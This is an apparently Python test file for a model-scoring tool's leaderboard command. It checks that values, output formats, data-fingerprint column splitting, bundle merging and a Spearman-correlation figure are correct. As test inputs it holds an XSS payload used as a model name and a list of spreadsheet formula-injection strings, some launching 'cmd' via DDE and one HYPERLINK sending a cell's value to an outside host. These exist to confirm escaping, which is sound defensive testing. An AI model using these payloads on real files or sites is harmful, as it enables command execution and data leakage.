"""`memscore leaderboard`: values equal the stored scores, every format agrees, a column never mixes data,
bundles merge, the Fig. 2 panel's rho equals scipy's over the layers on the board."""
from __future__ import annotations

import csv
import io
import json

import numpy as np
import pytest
from click.testing import CliRunner
from scipy.stats import spearmanr

from memscore.cli import main
from memscore.leaderboard import build_board, write_board
from memscore.scores import Score
from memscore.store import ResultStore
from run_fixture import put_run

HOSTILE = "<img src=x onerror=alert(1)>"


def run(model, benchmark, value, *, fp="aaaa1111", layers=None, ceiling=None, raw=None, cfg=None, created=1.0,
        limit=None, weights="none"):
    rng = np.random.default_rng(abs(hash((model, benchmark, fp))) % 2**32)
    names = layers or [f"l{i}" for i in range(6)]
    vals = rng.uniform(0, 1, len(names)).round(6).tolist()
    rows = [{"layer": n, "value": v, "error": 0.02, "depth": i / (len(names) - 1)} for i, (n, v) in
            enumerate(zip(names, vals))]
    best = max(rows, key=lambda r: r["value"])
    best["value"] = value  # the run's value is its committed layer's, as memscore stores it
    if raw is not None:
        best["raw"] = raw
    meta = {"weights": weights, "seed": 0, "created": created, "layer": best["layer"], "memscore_version": "0",
            "config": {"benchmark_args": {"pca": 1000, **(cfg or {})}, "model_args": {}, "seed": 0, "limit": limit,
                       "bf16": False, "skip_bad_images": False},
            "data": {"name": benchmark.split("-")[0], "fingerprint": fp, "counts": {"images": 60}}}
    if benchmark.startswith("neural"):
        meta["region"] = "IT"
    return Score(model, benchmark, "1", value, 0.02, ceiling, raw, rows, [], meta)


def put(store, score):
    return put_run(store, score)


@pytest.fixture
def store():
    st = ResultStore()
    for m, v in (("netA", 0.61), ("netB", 0.55), (HOSTILE, 0.4)):
        put(st, run(m, "lamem-pls", v))
        put(st, run(m, "neural-it", v / 2, ceiling=0.8, raw=0.5, fp="bbbb2222"))
    return st


def test_values_equal_the_store_and_formats_agree(store):
    board = build_board()
    stored = {(s.model, s.benchmark): s for s in store.query()}
    assert [b["name"] for b in board["benchmarks"]] == ["lamem-pls", "neural-it"]
    assert len(board["models"]) == 3
    for m in board["models"]:
        for b in ("lamem-pls", "neural-it"):
            s, cell = stored[(m["model"], b)], m["scores"][b]
            assert (cell["value"], cell["error"], cell["raw"], cell["ceiling"]) == (s.value, s.error, s.raw, s.ceiling)
            assert cell["layer"] == s.meta["layer"] and m["n_layers"] == 6
            assert [p["value"] for p in m["profiles"][b]] == [r["value"] for r in s.layers]
        assert m["committed"] == {"neural-it": stored[(m["model"], "neural-it")].meta["layer"]}

    as_json = json.loads(write_board(board, "json"))
    rows = list(csv.DictReader(io.StringIO(write_board(board, "csv"))))
    md = write_board(board, "markdown")
    table = write_board(board, "table")
    for m, row in zip(as_json["models"], rows):
        assert row["model"] == m["model"] and row["weights"] == "none(seed=0)"
        for b in ("lamem-pls", "neural-it"):
            assert float(row[f"{b}:value"]) == m["scores"][b]["value"]
            assert float(row[f"{b}:error"]) == m["scores"][b]["error"]
            cell = f"{m['scores'][b]['value']:.4f} ± {m['scores'][b]['error']:.4f}"
            assert cell in md and cell in table
        assert row["neural-it:raw"] == "0.5" and "(raw 0.5000)" in table
    assert "data lamem:aaaa1111" in table and "data neural:bbbb2222" in md
    assert HOSTILE not in md and "&lt;img src=x onerror=alert(1)&gt;" in md  # markdown renders HTML: escaped


def test_two_data_fingerprints_are_never_one_column(store):
    put(store, run("netA", "lamem-pls", 0.9, fp="cccc3333"))  # netA also on other LaMem data
    board = build_board(benchmarks=["lamem-pls"])
    names = [b["name"] for b in board["benchmarks"]]
    assert names == ["lamem-pls [data lamem aaaa1111]", "lamem-pls [data lamem cccc3333]"]  # one name: hashes
    assert any("lamem-pls is shown as 2 columns" in n and "data" in n for n in board["notes"])
    net_a = next(m for m in board["models"] if m["model"] == "netA")
    assert net_a["scores"]["lamem-pls [data lamem aaaa1111]"]["value"] == 0.61
    assert net_a["scores"]["lamem-pls [data lamem cccc3333]"]["value"] == 0.9
    net_b = next(m for m in board["models"] if m["model"] == "netB")
    assert "lamem-pls [data lamem cccc3333]" not in net_b["scores"]
    text = write_board(board, "table")
    assert "lamem-pls is shown as 2 columns" in text


def test_data_sets_are_told_apart_by_their_names():
    """Two copies of one data set with names of their own (--data-name, their folders) are columns named by
    them, and every format says the name beside the data set's own."""
    st = ResultStore()
    for fp, label in (("aaaa1111", "lamem-full"), ("cccc3333", "lamem-faces")):
        r = run("netA", "lamem-pls", 0.9, fp=fp)
        r.meta["data"]["label"] = label
        put(st, r)
    board = build_board(benchmarks=["lamem-pls"])
    assert sorted(b["name"] for b in board["benchmarks"]) == ["lamem-pls [data lamem-faces]",
                                                            "lamem-pls [data lamem-full]"]
    assert "lamem-pls [data lamem-faces]: data lamem-faces (lamem):cccc3333" in write_board(board, "table")


def test_a_runs_data_label_is_given_or_its_folder(tmp_path):
    from memscore.fingerprint import DataInfo

    assert DataInfo("lamem", "f", root=str(tmp_path / "LaMem-small")).labelled().label == "LaMem-small"
    assert DataInfo("lamem", "f", root=str(tmp_path / "x")).labelled("mine").label == "mine"
    assert DataInfo("synthetic-neural", "f", root=str(tmp_path / "neural.json")).labelled().label == \
        "synthetic-neural"  # a manifest: the data set it names
    assert DataInfo("lamem", "f").labelled().label == "lamem"


def test_settings_split_columns_and_smoke_runs_are_left_out(store):
    put(store, run("netA", "lamem-pls", 0.7, cfg={"pca": 16}))
    put(store, run("netB", "lamem-pls", 0.1, limit=10))
    board = build_board(benchmarks=["lamem-pls"])
    assert sorted(b["name"] for b in board["benchmarks"]) == ["lamem-pls [pca=1000]", "lamem-pls [pca=16]"]
    assert any("1 smoke run" in n for n in board["notes"])
    assert all(m["scores"].get(c, {}).get("value") != 0.1 for m in board["models"] for c in m["scores"])
    with_smoke = build_board(benchmarks=["lamem-pls"], include_smoke=True)
    assert len(with_smoke["benchmarks"]) == 3


def test_fig2_rho_is_scipys_over_the_layers_on_the_board(store):
    board = build_board()
    fig = next(f for f in board["figures"] if f["id"] == "fig2-it")
    x, y = [], []
    for m in board["models"]:
        a = {p["layer"]: p["value"] for p in m["profiles"]["neural-it"]}
        b = {p["layer"]: p["value"] for p in m["profiles"]["lamem-pls"]}
        for layer in sorted(a):
            x.append(a[layer])
            y.append(b[layer])
    rho, p = spearmanr(x, y)
    assert fig["n"] == 18 and fig["rho"] == pytest.approx(rho) and fig["p"] == pytest.approx(p)
    assert fig["published_rho"] == 0.82 and fig["x"] == "neural-it" and fig["y"] == "lamem-pls"
    assert not [f for f in board["figures"] if f["id"] == "fig2-v1"]  # no neural-v1 column: no panel


def test_cli_html_site_and_bundles_merge(store, tmp_path, monkeypatch):
    from memscore.bundle import make_bundle

    r = CliRunner().invoke(main, ["leaderboard", "--format", "html", "--out", str(tmp_path / "site")])
    assert r.exit_code == 0, r.output
    index = (tmp_path / "site" / "index.html").read_text()
    assert "&lt;img src=x onerror=alert(1)&gt;" in index and HOSTILE not in index.split('id="board-data"')[0]
    assert (tmp_path / "site" / "figures" / "fig2-it.html").is_file()

    scores = store.query()
    one = make_bundle(tmp_path / "a.zip", [s for s in scores if s.model == "netA"])
    two = make_bundle(tmp_path / "b.zip", [s for s in scores if s.model == "netB"])
    monkeypatch.setenv("MEMSCORE_HOME", str(tmp_path / "empty-home"))  # the bundles alone
    r = CliRunner().invoke(main, ["leaderboard", "--from", str(one), "--from", str(two), "--format", "json"])
    assert r.exit_code == 0, r.output
    merged = json.loads(r.output)
    assert [m["model"] for m in merged["models"]] == ["netA", "netB"]
    local = {m["model"]: m["scores"] for m in build_board(store=store)["models"]}
    for m in merged["models"]:
        assert {b: c["value"] for b, c in m["scores"].items()} == {b: c["value"] for b, c in local[m["model"]].items()}


def test_empty_store_and_bad_format_are_clear(tmp_path):
    r = CliRunner().invoke(main, ["leaderboard"])
    assert r.exit_code == 0 and "no scores" in r.output
    r = CliRunner().invoke(main, ["leaderboard", "--format", "html"])
    assert r.exit_code != 0 and "--out" in r.output and "Traceback" not in r.output
    (tmp_path / "afile").write_text("x")
    r = CliRunner().invoke(main, ["leaderboard", "--format", "html", "--out", str(tmp_path / "afile")])
    assert r.exit_code != 0 and "is a file" in r.output and "Traceback" not in r.output
    r = CliRunner().invoke(main, ["leaderboard", "--format", "csv", "--out", str(tmp_path)])
    assert r.exit_code != 0 and "is a folder" in r.output and "Traceback" not in r.output


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]


def test_names_are_data_in_every_csv_markdown_and_terminal(tmp_path):
    st = ResultStore()
    for i, name in enumerate(FORMULAS):
        put(st, run(name, "lamem-pls", -0.1 - i / 100))  # negative values stay numbers
    put(st, run("evil\nname | x", "lamem-pls", 0.3))
    put(st, run("red\x1b[31mALERT\x1b[0m", "lamem-pls", 0.2))
    texts = {"leaderboard csv": CliRunner().invoke(main, ["leaderboard", "--format", "csv"]).output,
             "results csv": CliRunner().invoke(main, ["results", "--format", "csv"]).output}
    r = CliRunner().invoke(main, ["leaderboard", "--format", "html", "--out", str(tmp_path / "site")])
    assert r.exit_code == 0, r.output
    texts["board.csv"] = (tmp_path / "site" / "board.csv").read_bytes().decode()
    for where, text in texts.items():
        rows = list(csv.reader(io.StringIO(text, newline="")))
        models = [row[0] for row in rows[1:]]
        for name in FORMULAS:
            assert "'" + name in models, (where, name, models)
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.lstrip(" ")[:1] == "="], where
        values = [float(c) for c in cells if c.startswith("-0.1")]
        assert values and all(v < 0 for v in values), where  # numbers are not neutralised
    md = CliRunner().invoke(main, ["leaderboard", "--format", "markdown"]).output
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len(table) == 2 + len(FORMULAS) + 2  # the newline did not break a row
    assert all(line.rstrip().endswith("|") for line in table) and "evil\\x0aname \\| x" in md
    for argv in (["leaderboard"], ["results"], ["leaderboard", "--format", "markdown"]):
        out = CliRunner().invoke(main, argv).output
        assert "\x1b" not in out and "red\\x1b[31mALERT" in out, argv
    r = CliRunner().invoke(main, ["score", "--model", "x" * 1_000_000 + "\x1b[2J", "--benchmark", "lamem-pls"])
    assert r.exit_code == 2 and len(r.output) < 400 and "\x1b" not in r.output and "(1000004 characters)" in r.output
